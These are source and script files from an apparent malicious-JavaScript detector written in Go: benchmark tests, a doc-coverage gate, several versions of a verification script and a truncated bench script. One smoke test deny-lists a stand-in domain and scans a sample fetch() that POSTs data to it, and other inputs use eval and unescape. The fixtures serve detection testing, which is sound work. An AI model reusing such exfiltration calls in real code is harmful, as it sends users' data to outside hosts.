		}
		if len(res.Rows) != 5 {
			b.Fatalf("classifiers = %d", len(res.Rows))
		}
	}
}

// BenchmarkTable3KSweep regenerates a reduced K-value grid.
func BenchmarkTable3KSweep(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.Table3(benchConfig(), []int{7, 11}, []int{4, 10})
		if err != nil {
			b.Fatal(err)
		}
		if _, _, f1 := res.Best(); f1 <= 0 {
			b.Fatal("empty sweep")
		}
	}
}

// BenchmarkTable4EnhancedAST regenerates the enhanced-vs-regular ablation.
func BenchmarkTable4EnhancedAST(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.Table4(benchConfig())
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Rows["enhanced"]) != 5 || len(res.Rows["regular"]) != 5 {
			b.Fatal("incomplete ablation grid")
		}
	}
}

// BenchmarkTable5Accuracy and BenchmarkTable6F1 regenerate the detector
// comparison; figure 6 and 7 derive from the same grid.
func BenchmarkTable5Accuracy(b *testing.B) {
	benchComparison(b, func(res experiments.ComparisonResult) string {
		return res.RenderTable5()
	})
}

// BenchmarkTable6F1 regenerates the F1 grid.
func BenchmarkTable6F1(b *testing.B) {
	benchComparison(b, func(res experiments.ComparisonResult) string {
		return res.RenderTable6()
	})
}

// BenchmarkFigure6ErrorRates regenerates the FNR/FPR series.
func BenchmarkFigure6ErrorRates(b *testing.B) {
	benchComparison(b, func(res experiments.ComparisonResult) string {
		return res.RenderFigure6()
	})
}

// BenchmarkFigure7Average regenerates the averaged comparison.
func BenchmarkFigure7Average(b *testing.B) {
	benchComparison(b, func(res experiments.ComparisonResult) string {
		return res.RenderFigure7()
	})
}

func benchComparison(b *testing.B, render func(experiments.ComparisonResult) string) {
	b.Helper()
	for i := 0; i < b.N; i++ {
		res, err := experiments.Comparison(benchConfig())
		if err != nil {
			b.Fatal(err)
		}
		if render(res) == "" {
			b.Fatal("empty render")
		}
	}
}

// BenchmarkTable7Interpretability regenerates the top-feature table.
func BenchmarkTable7Interpretability(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.Table7(benchConfig())
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Features) != 5 {
			b.Fatalf("features = %d", len(res.Features))
		}
	}
}

// BenchmarkTable8Runtime regenerates the per-module timing table.
func BenchmarkTable8Runtime(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.Table8(benchConfig())
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Rows) != 8 {
			b.Fatalf("rows = %d", len(res.Rows))
		}
	}
}

// BenchmarkFigure5Elbow regenerates the SSE elbow curves.
func BenchmarkFigure5Elbow(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.Figure5(benchConfig(), 2, 8)
		if err != nil {
			b.Fatal(err)
		}
		if len(res.BenignSSE) == 0 {
			b.Fatal("empty curve")
		}
	}
}

// ---------------------------------------------------------------------------
// Micro-benchmarks for the pipeline stages (the substance behind Table VIII)
// ---------------------------------------------------------------------------

func sampleScript() string {
	samples := corpus.Generate(corpus.Config{Benign: 1, Malicious: 0, Seed: 5, Pristine: true})
	return samples[0].Source
}

// BenchmarkParse measures AST construction alone.
func BenchmarkParse(b *testing.B) {
	src := sampleScript()
	b.SetBytes(int64(len(src)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := parser.Parse(src); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkPathExtraction measures enhanced-AST path-context extraction.
func BenchmarkPathExtraction(b *testing.B) {
	src := sampleScript()
	prog, err := parser.Parse(src)
	if err != nil {
		b.Fatal(err)
	}
	opts := pathctx.DefaultOptions()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if paths := pathctx.Extract(prog, opts); len(paths) == 0 {
			b.Fatal("no paths")
		}
	}
}

// BenchmarkDetect measures end-to-end single-file detection on a trained
// model (the paper's headline 0.6 s/file scalability number).
func BenchmarkDetect(b *testing.B) {
	samples := corpus.Generate(corpus.Config{Benign: 60, Malicious: 60, Seed: 6})
	train := make([]core.Sample, len(samples))
	for i, s := range samples {
		train[i] = core.Sample{Source: s.Source, Malicious: s.Malicious}
	}
	opts := core.DefaultOptions()
	opts.Embedding.Epochs = 4
	det, err := core.Train(train, nil, opts)
	if err != nil {
		b.Fatal(err)
	}
	src := sampleScript()
	b.SetBytes(int64(len(src)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := det.Detect(src); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkObfuscators measures each obfuscator's rewrite cost.
func BenchmarkObfuscators(b *testing.B) {
	src := sampleScript()
	for name, ob := range obfuscate.Registry(1) {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for i := 0; i < b.N; i++ {
				if _, err := ob.Obfuscate(src); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkBisectingKMeans measures the clustering stage at pipeline scale.
func BenchmarkBisectingKMeans(b *testing.B) {
	points := make([][]float64, 1000)
	for i := range points {
		points[i] = []float64{float64(i % 17), float64(i % 31), float64(i % 7)}
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := cluster.BisectingKMeans(points, 11, 3); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCorpusGeneration measures synthetic sample creation.
func BenchmarkCorpusGeneration(b *testing.B) {
	for i := 0; i < b.N; i++ {
		samples := corpus.Generate(corpus.Config{Benign: 10, Malicious: 10, Seed: int64(i)})
		if len(samples) != 20 {
			b.Fatal("bad corpus")
		}
	}
}

// BenchmarkTrain measures a full small training pass.
func BenchmarkTrain(b *testing.B) {
	samples := corpus.Generate(corpus.Config{Benign: 40, Malicious: 40, Seed: 7})
	train := make([]core.Sample, len(samples))
	for i, s := range samples {
		train[i] = core.Sample{Source: s.Source, Malicious: s.Malicious}
	}
	opts := core.DefaultOptions()
	opts.Embedding.Epochs = 3
	opts.Embedding.Dim = 24
	opts.Path.MaxPaths = 300
	opts.MaxPoolPerClass = 600
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		opts.Seed = int64(i)
		if _, err := core.Train(train, nil, opts); err != nil {
			b.Fatal(err)
		}
	}
}
