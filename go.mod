module jsrevealer

go 1.22
