#!/bin/sh
# doccheck.sh: documentation-coverage gate over the packages that form the
# public operational surface (internal/core, internal/scan, internal/serve,
# internal/par, internal/queue, internal/retry, internal/obs,
# internal/audit, internal/triage, internal/deobfuscate, internal/rules,
# internal/alert). Every exported top-level declaration — and every exported
# method on an exported receiver type — must carry a doc comment. The check
# is a line-pattern scan, not go/doc: it flags `^func Foo`, `^type Foo`,
# `^var Foo`, `^const Foo`, and `^func (r *Recv) Foo` lines whose preceding
# line is not a comment. Grouped const/var blocks satisfy the gate with a
# comment on the block.
set -eu

cd "$(dirname "$0")/.."

PKGS="internal/core internal/scan internal/serve internal/par internal/queue internal/retry internal/obs internal/audit internal/triage internal/deobfuscate internal/rules internal/alert"

bad=0
for pkg in $PKGS; do
    for f in "$pkg"/*.go; do
        case "$f" in
        *_test.go) continue ;;
        esac
        out=$(awk '
            /^\/\// { prevcomment = 1; next }
            # Exported top-level declarations.
            /^(func|type|var|const) [A-Z]/ ||
            # Exported methods on exported receiver types only: a method on
            # an unexported type is not part of the documented surface even
            # when its name is exported (interface satisfaction).
            /^func \([A-Za-z0-9_]+ \*?[A-Z][A-Za-z0-9_]*(\[[^]]*\])?\) [A-Z]/ {
                if (!prevcomment) { printf "%s:%d: %s\n", FILENAME, FNR, $0 }
            }
            { prevcomment = 0 }
        ' "$f")
        if [ -n "$out" ]; then
            echo "$out"
            bad=1
        fi
    done
done

if [ "$bad" -ne 0 ]; then
    echo "doccheck: undocumented exported declarations found" >&2
    exit 1
fi
echo "doccheck: OK"
