#!/bin/sh
# check.sh: the full local verification gate — static checks, a clean
# build, the full test suite, and the race detector over every package
# with concurrency. CI and pre-commit hooks should call this (or
# `make check`, which wraps it).
set -eu

cd "$(dirname "$0")/.."

echo "==> go vet ./..."
go vet ./...

echo "==> go build ./..."
go build ./...

echo "==> go test ./..."
go test ./...

# Race pass: -short skips the multi-minute single-goroutine soak tests the
# plain run above already covered, and internal/experiments is excluded —
# its full-pipeline table regeneration is sequential orchestration of
# already-race-checked stages and exceeds any reasonable budget under the
# race detector. All concurrency tests (the scan engine's worker pool, the
# detector's concurrent-use tests) run here.
echo "==> go test -race -short (all packages except internal/experiments)"
go test -race -short $(go list ./... | grep -v internal/experiments)

# Serve smoke test: build the CLI, start the exposition endpoint on an
# ephemeral port (-ready-file publishes the resolved address), and check
# /healthz and /metrics respond with the expected content.
echo "==> jsrevealer serve smoke test"
tmpdir=$(mktemp -d)
trap 'kill $serve_pid 2>/dev/null || true; rm -rf "$tmpdir"' EXIT
go build -o "$tmpdir/jsrevealer" ./cmd/jsrevealer
"$tmpdir/jsrevealer" serve -addr 127.0.0.1:0 -ready-file "$tmpdir/addr" -log-level warn &
serve_pid=$!
for _ in $(seq 1 50); do
    [ -s "$tmpdir/addr" ] && break
    sleep 0.1
done
[ -s "$tmpdir/addr" ] || { echo "serve never published its address" >&2; exit 1; }
addr=$(cat "$tmpdir/addr")
curl -fsS -o "$tmpdir/healthz" "http://$addr/healthz"
grep -q '"status":"ok"' "$tmpdir/healthz" || {
    echo "/healthz unhealthy" >&2; exit 1; }
curl -fsS -o "$tmpdir/metrics" "http://$addr/metrics"
grep -q '^jsrevealer_scan_files_total' "$tmpdir/metrics" || {
    echo "/metrics missing scan metric families" >&2; exit 1; }
grep -q '^jsrevealer_stage_duration_seconds_bucket' "$tmpdir/metrics" || {
    echo "/metrics missing stage histograms" >&2; exit 1; }
grep -q '^jsrevealer_cache_hits_total' "$tmpdir/metrics" || {
    echo "/metrics missing verdict-cache counters" >&2; exit 1; }
kill $serve_pid
wait $serve_pid 2>/dev/null || true

echo "==> OK"
