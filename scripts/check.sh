#!/bin/sh
# check.sh: the full local verification gate — static checks, a clean
# build, the full test suite, and the race detector over every package
# with concurrency. CI and pre-commit hooks should call this (or
# `make check`, which wraps it).
set -eu

cd "$(dirname "$0")/.."

echo "==> go vet ./..."
go vet ./...

echo "==> go build ./..."
go build ./...

echo "==> go test ./..."
go test ./...

# Race pass: -short skips the multi-minute single-goroutine soak tests the
# plain run above already covered, and internal/experiments is excluded —
# its full-pipeline table regeneration is sequential orchestration of
# already-race-checked stages and exceeds any reasonable budget under the
# race detector. All concurrency tests (the scan engine's worker pool, the
# detector's concurrent-use tests) run here.
echo "==> go test -race -short (all packages except internal/experiments)"
go test -race -short $(go list ./... | grep -v internal/experiments)

echo "==> OK"
