#!/bin/sh
# check.sh: the full local verification gate — static checks, a clean
# build, the full test suite, and the race detector over every package
# with concurrency. CI and pre-commit hooks should call this (or
# `make check`, which wraps it).
set -eu

cd "$(dirname "$0")/.."

echo "==> go vet ./..."
go vet ./...

echo "==> doc coverage (scripts/doccheck.sh)"
sh scripts/doccheck.sh

echo "==> go build ./..."
go build ./...

echo "==> go test ./..."
go test ./...

# Race pass: -short skips the multi-minute single-goroutine soak tests the
# plain run above already covered, and internal/experiments is excluded —
# its full-pipeline table regeneration is sequential orchestration of
# already-race-checked stages and exceeds any reasonable budget under the
# race detector. All concurrency tests (the scan engine's worker pool, the
# detector's concurrent-use tests) run here.
echo "==> go test -race -short (all packages except internal/experiments)"
go test -race -short $(go list ./... | grep -v internal/experiments)

# The durable queue is crash-recovery code: its full suite (including the
# slow lease-expiry and reaper tests that -short skips elsewhere) runs
# under the race detector unconditionally.
echo "==> go test -race ./internal/queue/..."
go test -race ./internal/queue/...

# The triage tier is a correctness-critical fast path — a false negative
# skips the detector entirely — so its full suite (including the
# adversarial obfuscator/pathological corpus) runs under the race detector
# unconditionally.
echo "==> go test -race ./internal/triage/..."
go test -race ./internal/triage/...

# The deobfuscation pipeline rewrites per-scan AST state inside the scan
# engine's worker pool, so its full suite (pass unit tests, the fuzz seed
# corpus, and the print→re-parse idempotence checks) runs under the race
# detector unconditionally.
echo "==> go test -race ./internal/deobfuscate/..."
go test -race ./internal/deobfuscate/...

# The rules engine evaluates hot-reloadable rule sets inside the scan
# engine's worker pool, and the alert sink delivers webhooks from its own
# goroutine, so both full suites (hostile rule files, the fuzz seed corpus,
# reload-under-load, alert backpressure) run under the race detector
# unconditionally.
echo "==> go test -race ./internal/rules/... ./internal/alert/..."
go test -race ./internal/rules/... ./internal/alert/...

# Serve smoke test: build the CLI, train a tiny model, start the scan
# service on an ephemeral port (-ready-file publishes the resolved
# address), and exercise the full serving surface: /healthz, /metrics, a
# streaming NDJSON batch on /scan with a caller traceparent (retrieved
# back from /debug/traces and matched against the audit trail), an async
# job submitted and polled to completion, a hot-reload via /admin/reload
# and SIGHUP, and the admission/queue metric families. Finally verify the
# ready-file is removed on graceful shutdown.
echo "==> jsrevealer serve smoke test"
tmpdir=$(mktemp -d)
trap 'kill $serve_pid 2>/dev/null || true; rm -rf "$tmpdir"' EXIT
go build -o "$tmpdir/jsrevealer" ./cmd/jsrevealer
"$tmpdir/jsrevealer" train -benign 25 -malicious 25 -seed 7 \
    -model "$tmpdir/model.json" >/dev/null

# Deob CLI smoke: the standalone normalizer must strip the opaque
# predicate, unwrap the eval-of-literal, and fold the string halves.
printf '%s' 'if (!![]) { eval("var x = \"a\" + \"b\";"); }' \
    | "$tmpdir/jsrevealer" deob 2>/dev/null > "$tmpdir/deobcli.out"
grep -q 'var x = "ab";' "$tmpdir/deobcli.out" || {
    echo "deob CLI did not normalize the smoke input" >&2; exit 1; }

# Rule set fixture: one deny-listed exfiltration domain. The smoke server
# loads it at startup and hot-reloads it on SIGHUP alongside the model.
mkdir -p "$tmpdir/rules"
printf '%s\n' '{"version":1,"deny":[{"id":"exfil-c2","severity":"critical","domains":["evil-exfil.example"]}]}' \
    > "$tmpdir/rules/deny.json"
"$tmpdir/jsrevealer" serve -addr 127.0.0.1:0 -model "$tmpdir/model.json" \
    -audit-dir "$tmpdir/audit" -ready-file "$tmpdir/addr" -log-level warn \
    -triage-threshold 0.30 -rules-dir "$tmpdir/rules" &
serve_pid=$!
for _ in $(seq 1 100); do
    [ -s "$tmpdir/addr" ] && break
    sleep 0.1
done
[ -s "$tmpdir/addr" ] || { echo "serve never published its address" >&2; exit 1; }
addr=$(cat "$tmpdir/addr")
curl -fsS -o "$tmpdir/healthz" "http://$addr/healthz"
grep -q '"status":"ok"' "$tmpdir/healthz" || {
    echo "/healthz unhealthy" >&2; exit 1; }

# Streaming batch: four NDJSON records in, one verdict line out per
# script. The first three are below triage's size floor and escalate to
# the full pipeline; long.js is big enough and boring enough to be cleared
# by the triage tier, which must show up in its verdict line.
printf '%s\n' \
    '{"name":"a.js","source":"var a = 1;"}' \
    '{"name":"b.js","source":"function f() { return 2; }"}' \
    '{"name":"c.js","source":"var s = unescape(\"%61\"); eval(s);"}' \
    '{"name":"long.js","source":"function add(a, b) { return a + b; } function sub(a, b) { return a - b; } var total = add(2, 3) + sub(9, 4); console.log(total);"}' \
    > "$tmpdir/batch.ndjson"
trace_id=4bf92f3577b34da6a3ce929d0e0e4736
curl -fsS -X POST --data-binary @"$tmpdir/batch.ndjson" \
    -H "traceparent: 00-$trace_id-00f067aa0ba902b7-01" \
    -o "$tmpdir/scanout" "http://$addr/scan"
[ "$(wc -l < "$tmpdir/scanout")" -eq 4 ] || {
    echo "/scan did not stream 4 verdict lines" >&2; exit 1; }
grep -q '"verdict"' "$tmpdir/scanout" || {
    echo "/scan lines missing verdicts" >&2; exit 1; }
grep -q '"name":"long.js".*"tier":"triage"' "$tmpdir/scanout" || {
    echo "/scan did not clear long.js through the triage tier" >&2; exit 1; }

# Deobfuscation provenance: a per-request ?deobfuscate=1 scan of a script
# with foldable string halves must name the passes that fired in its NDJSON
# verdict line and in the audit trail.
printf '%s\n' \
    '{"name":"obf.js","source":"var h = \"ev\" + \"al\"; if (!![]) { var y = \"a\" + \"b\"; }"}' \
    > "$tmpdir/deob.ndjson"
curl -fsS -X POST --data-binary @"$tmpdir/deob.ndjson" \
    -o "$tmpdir/deobout" "http://$addr/scan?deobfuscate=1"
grep -q '"deob_passes":\[' "$tmpdir/deobout" || {
    echo "/scan?deobfuscate=1 missing deob_passes provenance" >&2; exit 1; }
deob_audit=""
for _ in $(seq 1 50); do
    if grep -q '"deob_passes":\[' "$tmpdir/audit/audit.ndjson" 2>/dev/null; then
        deob_audit=1; break
    fi
    sleep 0.1
done
[ -n "$deob_audit" ] || {
    echo "audit trail missing deob_passes provenance" >&2; exit 1; }

# Trace retention: the caller's trace id must be retrievable from
# /debug/traces with the serve root span and the engine's file spans.
trace_ok=""
for _ in $(seq 1 50); do
    if curl -fsS -o "$tmpdir/trace" "http://$addr/debug/traces/$trace_id" \
        && grep -q '"serve.scan"' "$tmpdir/trace" \
        && grep -q '"scan.file"' "$tmpdir/trace"; then
        trace_ok=1; break
    fi
    sleep 0.1
done
[ -n "$trace_ok" ] || {
    echo "/debug/traces/$trace_id missing the scan waterfall" >&2; exit 1; }

# Audit trail: one NDJSON line per verdict, carrying the content SHA-256
# and the caller's trace id. The expected digest is sha256("var a = 1;").
audit_sha=f9d67ab9db16c4d56819f49c02aeede48205e5425be05e918636cdea87b5a78c
audit_ok=""
for _ in $(seq 1 50); do
    if grep -q "\"sha256\":\"$audit_sha\"" "$tmpdir/audit/audit.ndjson" 2>/dev/null \
        && grep -q "\"trace_id\":\"$trace_id\"" "$tmpdir/audit/audit.ndjson"; then
        audit_ok=1; break
    fi
    sleep 0.1
done
[ -n "$audit_ok" ] || {
    echo "audit trail missing the scanned content's record" >&2; exit 1; }

# Rules engine: a deny-listed domain must flip an otherwise-benign script
# to MALICIOUS through /detect, with per-rule provenance in the JSON
# response and (asynchronously) the audit trail.
printf '%s' 'fetch("https://evil-exfil.example/collect", {method: "POST"});' \
    > "$tmpdir/deny.js"
curl -fsS -X POST --data-binary @"$tmpdir/deny.js" \
    -o "$tmpdir/denyout" "http://$addr/detect?name=deny.js"
grep -q '"verdict":"MALICIOUS"' "$tmpdir/denyout" || {
    echo "/detect did not convict the deny-listed script" >&2; exit 1; }
grep -q '"tier":"rules"' "$tmpdir/denyout" || {
    echo "/detect deny verdict missing the rules tier" >&2; exit 1; }
grep -q '"rule":"exfil-c2"' "$tmpdir/denyout" || {
    echo "/detect deny verdict missing rule_hits provenance" >&2; exit 1; }
rules_audit=""
for _ in $(seq 1 50); do
    if grep -q '"rule_hits":\[.*"rule":"exfil-c2"' "$tmpdir/audit/audit.ndjson" 2>/dev/null; then
        rules_audit=1; break
    fi
    sleep 0.1
done
[ -n "$rules_audit" ] || {
    echo "audit trail missing rule_hits provenance" >&2; exit 1; }

# Shadow validation: a broken rule file must be rejected with 422 while
# the previous rule set keeps serving (the deny hit above still fires).
printf '%s' '{"version":1,"deny":[' > "$tmpdir/rules/deny.json"
code=$(curl -s -o "$tmpdir/rulesfail" -w '%{http_code}' -X POST \
    "http://$addr/admin/reload-rules")
[ "$code" = "422" ] || {
    echo "/admin/reload-rules accepted a broken rule file (status $code)" >&2; exit 1; }
curl -fsS -X POST --data-binary @"$tmpdir/deny.js" \
    -o "$tmpdir/denyout2" "http://$addr/detect?name=deny2.js"
grep -q '"verdict":"MALICIOUS"' "$tmpdir/denyout2" || {
    echo "old rule set stopped serving after a failed reload" >&2; exit 1; }
# Restore the good rule file so the SIGHUP reload below succeeds.
printf '%s\n' '{"version":1,"deny":[{"id":"exfil-c2","severity":"critical","domains":["evil-exfil.example"]}]}' \
    > "$tmpdir/rules/deny.json"

# Async job: submit, then poll to completion.
job_id=$(curl -fsS -X POST --data-binary @"$tmpdir/batch.ndjson" \
    "http://$addr/jobs" | sed -n 's/.*"id":"\([0-9a-f.]*\)".*/\1/p')
[ -n "$job_id" ] || { echo "/jobs returned no id" >&2; exit 1; }
job_done=""
for _ in $(seq 1 100); do
    curl -fsS -o "$tmpdir/job" "http://$addr/jobs/$job_id"
    if grep -q '"state":"done"' "$tmpdir/job"; then job_done=1; break; fi
    sleep 0.1
done
[ -n "$job_done" ] || { echo "async job never completed" >&2; exit 1; }

# Hot reload: via the admin endpoint and via SIGHUP; both must land on the
# reload counter, and /version must report the live model.
curl -fsS -X POST -o "$tmpdir/reload" "http://$addr/admin/reload"
grep -q '"model_loaded":true' "$tmpdir/reload" || {
    echo "/admin/reload did not report the live model" >&2; exit 1; }
kill -HUP $serve_pid
reloaded=""
for _ in $(seq 1 50); do
    curl -fsS -o "$tmpdir/metrics" "http://$addr/metrics"
    if grep -q 'jsrevealer_serve_reloads_total{result="ok"} 3' "$tmpdir/metrics"; then
        reloaded=1; break
    fi
    sleep 0.1
done
[ -n "$reloaded" ] || { echo "SIGHUP reload never landed on /metrics" >&2; exit 1; }

# The same SIGHUP also reloads the rule set: initial load (1) plus the
# SIGHUP reload (2) on the ok counter, and the rejected broken file above
# on the error counter. Rules reloads must NOT touch the model's
# jsrevealer_serve_reloads_total counter (asserted at exactly 3 above).
rules_reloaded=""
for _ in $(seq 1 50); do
    curl -fsS -o "$tmpdir/metrics" "http://$addr/metrics"
    if grep -q 'jsrevealer_rules_reload_total{result="ok"} 2' "$tmpdir/metrics"; then
        rules_reloaded=1; break
    fi
    sleep 0.1
done
[ -n "$rules_reloaded" ] || {
    echo "SIGHUP rules reload never landed on /metrics" >&2; exit 1; }
grep -q 'jsrevealer_rules_reload_total{result="error"} 1' "$tmpdir/metrics" || {
    echo "/metrics missing the rejected rules reload" >&2; exit 1; }
curl -fsS -o "$tmpdir/version" "http://$addr/version"
grep -q '"sha256"' "$tmpdir/version" || {
    echo "/version missing model digest" >&2; exit 1; }
grep -q '"rules":{' "$tmpdir/version" || {
    echo "/version missing live rule-set provenance" >&2; exit 1; }

# Metric surface: scan families plus the serving subsystem's queue,
# admission, and latency families.
grep -q '^jsrevealer_scan_files_total' "$tmpdir/metrics" || {
    echo "/metrics missing scan metric families" >&2; exit 1; }
grep -q '^jsrevealer_stage_duration_seconds_bucket' "$tmpdir/metrics" || {
    echo "/metrics missing stage histograms" >&2; exit 1; }
grep -q '^jsrevealer_cache_hits_total' "$tmpdir/metrics" || {
    echo "/metrics missing verdict-cache counters" >&2; exit 1; }
grep -Eq '^jsrevealer_scan_tier_total\{tier="triage"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing a non-zero triage tier counter" >&2; exit 1; }
grep -Eq '^jsrevealer_scan_tier_total\{tier="pipeline"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing a non-zero pipeline tier counter" >&2; exit 1; }
grep -q '^jsrevealer_scan_tier_duration_seconds_bucket' "$tmpdir/metrics" || {
    echo "/metrics missing per-tier duration histograms" >&2; exit 1; }
grep -Eq '^jsrevealer_deob_pass_changes_total\{pass="[a-z]+"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing non-zero deobfuscation pass counters" >&2; exit 1; }
grep -q '^jsrevealer_serve_queue_depth' "$tmpdir/metrics" || {
    echo "/metrics missing serve queue gauge" >&2; exit 1; }
grep -q '^jsrevealer_serve_admission_rejects_total' "$tmpdir/metrics" || {
    echo "/metrics missing admission reject counters" >&2; exit 1; }
grep -q '^jsrevealer_serve_jobs_total' "$tmpdir/metrics" || {
    echo "/metrics missing job counters" >&2; exit 1; }
grep -q '^jsrevealer_serve_request_duration_seconds' "$tmpdir/metrics" || {
    echo "/metrics missing per-endpoint latency histograms" >&2; exit 1; }
grep -q '^jsrevealer_audit_records_total' "$tmpdir/metrics" || {
    echo "/metrics missing audit record counters" >&2; exit 1; }
grep -Eq '^jsrevealer_rules_evals_total\{outcome="deny"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing a non-zero rules deny counter" >&2; exit 1; }
grep -Eq '^jsrevealer_rules_hits_total\{rule="exfil-c2"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing the per-rule hit counter" >&2; exit 1; }
grep -Eq '^jsrevealer_scan_tier_total\{tier="rules"\} [1-9]' "$tmpdir/metrics" || {
    echo "/metrics missing a non-zero rules tier counter" >&2; exit 1; }
grep -q '^jsrevealer_rules_alert_total' "$tmpdir/metrics" || {
    echo "/metrics missing alert delivery counters" >&2; exit 1; }

# Graceful shutdown removes the ready-file so the next run never reads a
# stale address.
kill $serve_pid
wait $serve_pid 2>/dev/null || true
[ ! -e "$tmpdir/addr" ] || {
    echo "ready-file leaked after shutdown" >&2; exit 1; }

# Durable-queue kill -9 smoke: start serve with -queue-dir, submit a burst
# of async jobs, SIGKILL the process with no warning, restart it over the
# same directory, and require every accepted job to reach done — the
# crash-safety contract the WAL exists for.
echo "==> durable queue kill -9 smoke test"
qdir="$tmpdir/queue"
"$tmpdir/jsrevealer" serve -addr 127.0.0.1:0 -model "$tmpdir/model.json" \
    -queue-dir "$qdir" -ready-file "$tmpdir/addr2" -log-level warn &
serve_pid=$!
for _ in $(seq 1 100); do
    [ -s "$tmpdir/addr2" ] && break
    sleep 0.1
done
[ -s "$tmpdir/addr2" ] || {
    echo "durable serve never published its address" >&2; exit 1; }
addr=$(cat "$tmpdir/addr2")
job_ids=""
for _ in $(seq 1 5); do
    id=$(curl -fsS -X POST --data-binary @"$tmpdir/batch.ndjson" \
        "http://$addr/jobs" | sed -n 's/.*"id":"\([0-9a-f.]*\)".*/\1/p')
    [ -n "$id" ] || { echo "durable /jobs returned no id" >&2; exit 1; }
    job_ids="$job_ids $id"
done

kill -9 $serve_pid
wait $serve_pid 2>/dev/null || true
rm -f "$tmpdir/addr2" # a SIGKILLed process never cleans up its ready-file

"$tmpdir/jsrevealer" serve -addr 127.0.0.1:0 -model "$tmpdir/model.json" \
    -queue-dir "$qdir" -ready-file "$tmpdir/addr3" -log-level warn &
serve_pid=$!
for _ in $(seq 1 100); do
    [ -s "$tmpdir/addr3" ] && break
    sleep 0.1
done
[ -s "$tmpdir/addr3" ] || {
    echo "durable serve never restarted" >&2; exit 1; }
addr=$(cat "$tmpdir/addr3")
for id in $job_ids; do
    job_done=""
    for _ in $(seq 1 100); do
        curl -fsS -o "$tmpdir/job" "http://$addr/jobs/$id"
        if grep -q '"state":"done"' "$tmpdir/job"; then job_done=1; break; fi
        sleep 0.1
    done
    [ -n "$job_done" ] || {
        echo "job $id did not survive kill -9 + restart" >&2; exit 1; }
done
curl -fsS -o "$tmpdir/metrics2" "http://$addr/metrics"
grep -q '^jsrevealer_queue_depth' "$tmpdir/metrics2" || {
    echo "/metrics missing durable queue depth gauge" >&2; exit 1; }
grep -q '^jsrevealer_queue_enqueued_total' "$tmpdir/metrics2" || {
    echo "/metrics missing durable queue counters" >&2; exit 1; }
grep -q '^jsrevealer_queue_recovered_total' "$tmpdir/metrics2" || {
    echo "/metrics missing durable queue recovery counter" >&2; exit 1; }
kill $serve_pid
wait $serve_pid 2>/dev/null || true

# Flag-docs drift gate: every flag the serve and deob subcommands actually
# register must be mentioned (as `-flagname`) somewhere in README.md, so
# the operator docs cannot silently fall behind the binary. The flag list
# comes from the live -h output, not a hand-maintained list.
echo "==> flag docs drift check (serve/deob -h vs README.md)"
for sub in serve deob; do
    "$tmpdir/jsrevealer" "$sub" -h 2> "$tmpdir/help.$sub" || true
    flags=$(sed -n 's/^  -\([a-z][a-z-]*\).*/\1/p' "$tmpdir/help.$sub")
    [ -n "$flags" ] || { echo "no flags parsed from '$sub -h'" >&2; exit 1; }
    for f in $flags; do
        grep -q -- "-$f" README.md || {
            echo "README.md does not mention flag -$f from '$sub -h'" >&2; exit 1; }
    done
done

echo "==> OK"
