#!/bin/sh
# bench.sh: run the scan-engine benchmarks and emit a machine-readable
# summary to BENCH_scan.json — one entry per benchmark with ns/op, B/op,
# and allocs/op, so regressions show up as diffs in review.
set -eu

cd "$(dirname "$0")/.."

out=BENCH_scan.json
raw=$(mktemp)
trap 'rm -f "$raw"' EXIT

echo "==> go test -bench BenchmarkScan ./internal/scan/"
go test -bench 'BenchmarkScan' -benchmem -run '^$' ./internal/scan/ | tee "$raw"

# Benchmark lines look like:
#   BenchmarkScanSource-8   120  9876543 ns/op  65536 B/op  123 allocs/op
awk '
BEGIN { print "["; first = 1 }
/^Benchmark/ {
    name = $1; sub(/-[0-9]+$/, "", name)
    if (!first) printf ",\n"
    first = 0
    printf "  {\"name\": \"%s\", \"iterations\": %s, \"ns_per_op\": %s, \"bytes_per_op\": %s, \"allocs_per_op\": %s}", \
        name, $2, $3, $5, $7
}
END { print "\n]" }
' "$raw" > "$out"

echo "==> wrote $out"
