#!/bin/sh
# bench.sh: run the hot-path benchmarks across every optimized layer — the
# scan engine (cold, cached, tiered, and obfuscated-with/without
# deobfuscation), the deobfuscation pass pipeline, the triage scorer, the
# embedding network (per-script and batched), path hashing and extraction,
# end-to-end detection, and the serving layer's batch
# endpoint — and record one timestamped run
# (with the git SHA) into BENCH_scan.json via cmd/benchcompare. Earlier
# runs are preserved, so `make bench-compare` can diff the newest run
# against the committed baseline.
set -eu

cd "$(dirname "$0")/.."

out=BENCH_scan.json
raw=$(mktemp)
trap 'rm -f "$raw"' EXIT

echo "==> scan engine benchmarks"
go test -bench 'BenchmarkScan|BenchmarkContentHash' -benchmem -run '^$' \
    ./internal/scan/ | tee -a "$raw"

echo "==> deobfuscation pipeline benchmarks"
go test -bench 'BenchmarkDeobfuscate' -benchmem -run '^$' \
    ./internal/deobfuscate/ | tee -a "$raw"

echo "==> triage tier benchmarks"
go test -bench 'BenchmarkTriage' -benchmem -run '^$' \
    ./internal/triage/ | tee -a "$raw"

echo "==> embedding network benchmarks"
go test -bench 'BenchmarkEmbed|BenchmarkPredictProb|BenchmarkTrainStep' \
    -benchmem -run '^$' ./internal/ml/nn/ | tee -a "$raw"

echo "==> path extraction benchmarks"
